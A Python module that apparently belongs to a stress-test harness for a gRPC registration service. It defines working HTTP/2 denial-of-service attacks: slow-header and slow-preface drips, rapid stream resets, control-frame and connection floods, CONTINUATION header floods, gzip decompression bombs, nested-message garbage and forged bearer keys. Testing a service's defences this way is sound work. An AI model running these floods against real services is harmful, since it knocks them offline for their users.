"""The attacks. Each is one coroutine that goes on until it is cancelled and counts what it did; `PACK` says how many
addresses it has, whether it holds a portal's key, and how much it must have done to count as an attack.

usage (by run.py): attacks.py NAME PORT KEY BUSY_EVENT QUIET_EVENT"""

import asyncio
import itertools
import logging
import os
import random
import sys
import zlib

from means import At, crowd, string_field, varint
from wire import (
    CONTINUATION, DATA, END_HEADERS, FRAME_MAX, HEADERS, PING, PREFACE, SETTINGS, WINDOW_UPDATE, Gone,
    connection, field, frame, head, message, socket_from)

SIGN_UP = "/eile.v1.RegistrationService/CreateRegistration"
WATCH = "/eile.v1.RegistrationService/WatchEvent"
LIST = "/eile.v1.EventService/ListEvents"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
MIB = 1 << 20
# As one address may have; see SECURITY.md.
CONNECTIONS, CALLS = 200, 4_000


async def drip(at, ip, words):
    """A byte now and then, for ever."""
    reader, writer = await socket_from(ip, at.port)
    at.done["connections"] += 1
    try:
        for byte in itertools.chain(words, itertools.repeat(words[-1])):
            writer.write(bytes((byte,)))
            await writer.drain()
            at.done["bytes"] += 1
            if reader.at_eof():
                raise Gone
            await asyncio.sleep(1)
    finally:
        writer.transport.abort()


async def slow_prefaces(at):
    await crowd(CONNECTIONS, lambda ip: drip(at, ip, PREFACE[:-1]), addresses=5)


async def slow_heads(at):
    """Heads of calls that never end: a byte of HTTP/1 now and then, or a piece of HTTP/2."""

    async def slow_http_2(ip):
        async with connection(ip, at.port) as here:
            at.done["connections"] += 1
            here.writer.write(frame(HEADERS, 0, 1, head(SIGN_UP)))
            while True:
                await here.flush()
                here.writer.write(frame(CONTINUATION, 0, 1, field("x", "y")))
                at.done["pieces"] += 1
                await asyncio.sleep(1)

    http_1 = f"POST {SIGN_UP} HTTP/1.1\r\nhost: here\r\nx-slow: ".encode()
    await asyncio.gather(
        crowd(CONNECTIONS // 2, lambda ip: drip(at, ip, http_1), addresses=5),
        crowd(CONNECTIONS // 2, slow_http_2, addresses=5))


async def half_messages(at):
    """A message that says that it is of 1 MiB; most of it comes, and the rest never does."""
    body = message(os.urandom(MIB - 70_000), says=MIB)

    async def half(ip):
        async with connection(ip, at.port) as here:
            await here.settled()
            while True:
                stream = here.begin(head(SIGN_UP))
                await here.send(stream, body)
                at.done["messages"] += 1
                await here.room(1)

    await crowd(CONNECTIONS, half)


async def half_messages_in_drops(at):
    """Many small messages that come a byte at a time: what there is for messages that are not whole is always full."""
    begun = message(os.urandom(17_000), says=20_000)

    async def half(ip):
        async with connection(ip, at.port) as here:
            await here.settled()
            while True:
                streams = [here.begin(head(SIGN_UP)) for _ in range(50)]
                for stream in streams:
                    await here.send(stream, begun)
                at.done["messages"] += len(streams)
                while len(here.open) > 25:
                    for stream in list(here.open):
                        await here.send(stream, b"x")
                    await asyncio.sleep(0.5)

    await crowd(CALLS // 50, half, addresses=2)


async def rapid_resets(at):
    both = head(SIGN_UP)

    async def reset(ip):
        async with connection(ip, at.port) as here:
            while True:
                for _ in range(16):
                    here.reset(here.begin(both))
                at.done["resets"] += 16
                await here.flush()
                # So that it reads that it is sent away.
                await asyncio.sleep(0)

    await crowd(4, reset, addresses=3)


async def pings_and_settings(at):
    """Frames that each ask for an answer, on some connections by somebody who takes none."""
    ping, setting = frame(PING, 0, 0, b"12345678"), frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64")
    await control_flood(at, (ping * 500, setting * 500))


async def empty_frames(at):
    """Frames that say nothing: empty DATA, PRIORITY, unknown ones, windows that open by a byte."""
    priority = frame(2, 0, 1, b"\x00\x00\x00\x00\x10")
    unknown, window = frame(0x7F, 0, 0, b"x"), frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01")
    await control_flood(at, (frame(DATA, 0, 1) * 500, priority * 500, unknown * 500, window * 500))


async def control_flood(at, floods):
    numbers = itertools.count()

    async def flood(ip):
        n = next(numbers)
        async with connection(ip, at.port, reads=n % 2 == 0) as here:
            here.begin(head(SIGN_UP))
            while True:
                here.writer.write(floods[n % len(floods)])
                at.done["frames"] += 500
                await here.flush()
                await asyncio.sleep(0)

    await crowd(4, flood, addresses=3)


async def connection_flood(at, addresses=1):
    """Connections as fast as they are taken; most are held."""

    async def connect(ip):
        reader, writer = await socket_from(ip, at.port)
        at.done["connections"] += 1
        try:
            await asyncio.wait_for(reader.read(1), 10 * random.random())
        except asyncio.TimeoutError:
            pass
        finally:
            writer.transport.abort()

    await crowd(CONNECTIONS + 50, connect, addresses=addresses)


async def connection_flood_of_a_net(at):
    await connection_flood(at, addresses=12)


async def idle_streams(at):
    """As many watches as there can be, of an event where nothing happens."""
    await watches(at, at.quiet)


async def busy_streams(at):
    """The same, of the event that the honest sign up for: each sign-up is news for all of them."""
    await watches(at, at.busy)


async def watches(at, event):
    fields, body = head(WATCH, at.with_key()), message(string_field(1, event))

    async def watch(ip):
        async with connection(ip, at.port) as here:
            await here.settled()
            for _ in range(200):
                await here.call(fields, body)
                at.done["streams"] += 1
            while not here.is_gone:
                await asyncio.sleep(1)

    await crowd(CALLS // 200, watch, addresses=3)


async def slow_readers(at):
    """Answers of a MiB that are asked for, again and and never taken."""
    await not_taken(at, head(LIST, at.with_key()), message(b"\x08" + varint(500)))


async def slow_readers_of_reflection(at):
    """The largest that is told to whoever shows no key."""
    await not_taken(at, head(REFLECT), message(string_field(4, "eile.v1.RegistrationService")) * 3)


async def not_taken(at, fields, body):
    async def ask(ip):
        async with connection(ip, at.port, window=0) as here:
            await here.settled()
            while True:
                await here.room(100)
                await here.call(fields, body)
                at.done["answers asked for"] += 1

    await crowd(40, ask, addresses=2)


async def huge_heads(at):
    """A head of 64 KiB, and heads that never end, as fast as they are taken."""
    big = head(SIGN_UP) + b"".join(field(f"x-{n}", "y" * 1_000) for n in range(64))
    pieces = [big[n:n + FRAME_MAX] for n in range(0, len(big), FRAME_MAX)]

    async def send(ip, ends):
        async with connection(ip, at.port) as here:
            while True:
                stream, here.next_stream = here.next_stream, here.next_stream + 2
                here.writer.write(frame(HEADERS, 0, stream, pieces[0]))
                for piece in pieces[1:-1] if ends else itertools.repeat(pieces[1]):
                    here.writer.write(frame(CONTINUATION, 0, stream, piece))
                    at.done["KiB"] += len(piece) >> 10
                    await here.flush()
                    await asyncio.sleep(0)
                here.writer.write(frame(CONTINUATION, END_HEADERS, stream, pieces[-1]))
                at.done["heads"] += 1

    await asyncio.gather(
        crowd(4, lambda ip: send(ip, True), addresses=2), crowd(4, lambda ip: send(ip, False), addresses=2))


async def calls(at, each, most, make, addresses=2, what="calls"):
    """Whole calls as fast as they are answered, `most` at once on a connection."""

    async def send(ip):
        async with connection(ip, at.port) as here:
            await here.settled()
            while True:
                await here.room(most)
                fields, body = make()
                await here.send(here.begin(fields), body, end=True)
                at.done[what] += 1

    await crowd(each, send, addresses=addresses)


async def large_messages(at):
    """4 MiB and more, which they say first."""
    body = message(bytes(4 * MIB + 1))
    await calls(at, 20, 2, lambda: (head(SIGN_UP, at.with_key()), body), what="messages")


async def bombs(at):
    """64 MiB of nothing, squeezed a thousand times, where nobody said that squeezed messages are read."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = message(squeeze.compress(bytes(64 * MIB)) + squeeze.flush(), squeezed=1)
    await calls(at, 10, 4, lambda: (head(SIGN_UP, at.with_key(), ("grpc-encoding", "gzip")), bomb), what="bombs")


async def wrong_keys(at):
    """Keys that are well-formed and unknown, and the known one with another secret."""
    known = at.key.split("_")[1]

    def make():
        which = known if random.random() < 0.5 else f"{random.getrandbits(64):016x}"
        shown = ("authorization", f"Bearer eile_{which}_{random.getrandbits(140):043d}")
        return head(SIGN_UP, shown), message(at.named())

    await calls(at, 10, 50, make, addresses=4, what="keys")


async def garbage(at):
    """Bytes of no message, and messages in messages."""
    nested = b""
    for _ in range(5_000):
        nested = string_field(2, nested)
    kinds = [lambda: os.urandom(random.randrange(2_000)), lambda: nested]
    await calls(at, 4, 4, lambda: (head(SIGN_UP), message(random.choice(kinds)())), what="messages")


async def growing_messages(at):
    """A MiB of members that grow a hundredfold when they are read."""
    members = message(string_field(2, string_field(18, b"") * (MIB // 3 - 20)))
    await calls(at, 4, 4, lambda: (head(SIGN_UP), members), what="messages")


async def cancelled_calls(at):
    """Sign-ups that are heard, and taken back at once or some milliseconds later."""
    fields = head(SIGN_UP, at.with_key())

    async def cancel(ip):
        async with connection(ip, at.port) as here:
            await here.settled()
            while True:
                begun = [await here.call(fields, message(at.named())) for _ in range(10)]
                await asyncio.sleep(random.choice((0, 0.001, 0.005)))
                for stream in begun:
                    here.reset(stream)
                at.done["calls"] += len(begun)
                await here.flush()

    await crowd(10, cancel, addresses=2)


class Attack:
    """`floor` is what it must have done in ten seconds. Where the service has no bound against it, it is told and not
    `held` against it."""

    def __init__(self, work, floor, key=False, held=True):
        self.work, self.floor, self.key, self.held = work, floor, key, held


PACK = {
    "slow prefaces": Attack(slow_prefaces, {"connections": 1_000}),
    "slow heads": Attack(slow_heads, {"connections": 1_000}),
    "half-sent messages": Attack(half_messages, {"messages": 50}),
    "half-sent messages in drops": Attack(half_messages_in_drops, {"messages": 4_000}),
    "rapid resets": Attack(rapid_resets, {"resets": 10_000}),
    "pings and settings": Attack(pings_and_settings, {"frames": 100_000}),
    "empty frames": Attack(empty_frames, {"frames": 100_000}),
    "connections of one address": Attack(connection_flood, {"connections": 1_000}),
    # Twelve addresses take all connections that there are: only what stands before the service can tell them apart.
    "connections of twelve addresses": Attack(connection_flood_of_a_net, {"connections": 2_000}, held=False),
    "idle streams": Attack(idle_streams, {"streams": 10_000}, key=True),
    "busy streams": Attack(busy_streams, {"streams": 10_000}, key=True),
    "slow readers": Attack(slow_readers, {"answers asked for": 500}, key=True),
    "slow readers of reflection": Attack(slow_readers_of_reflection, {"answers asked for": 500}),
    "huge heads": Attack(huge_heads, {"KiB": 10_000}),
    "messages of 4 MiB": Attack(large_messages, {"messages": 100}, key=True),
    "bombs": Attack(bombs, {"bombs": 100}, key=True),
    "wrong keys": Attack(wrong_keys, {"keys": 2_000}),
    "garbage": Attack(garbage, {"messages": 1_000}),
    "growing messages": Attack(growing_messages, {"messages": 30}),
    "cancelled calls": Attack(cancelled_calls, {"calls": 2_000}, key=True),
}


async def main(name, *where):
    # It says so of every byte that is written to who has gone.
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    at = At(*where)
    attack = asyncio.create_task(PACK[name].work(at))
    print("begun", flush=True)
    # Until whoever began it says that it is over.
    await asyncio.to_thread(sys.stdin.read)
    print("\n".join(f"{n} {what}" for what, n in at.done.items()), flush=True)
    assert not attack.done(), attack.exception()
    os._exit(0)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
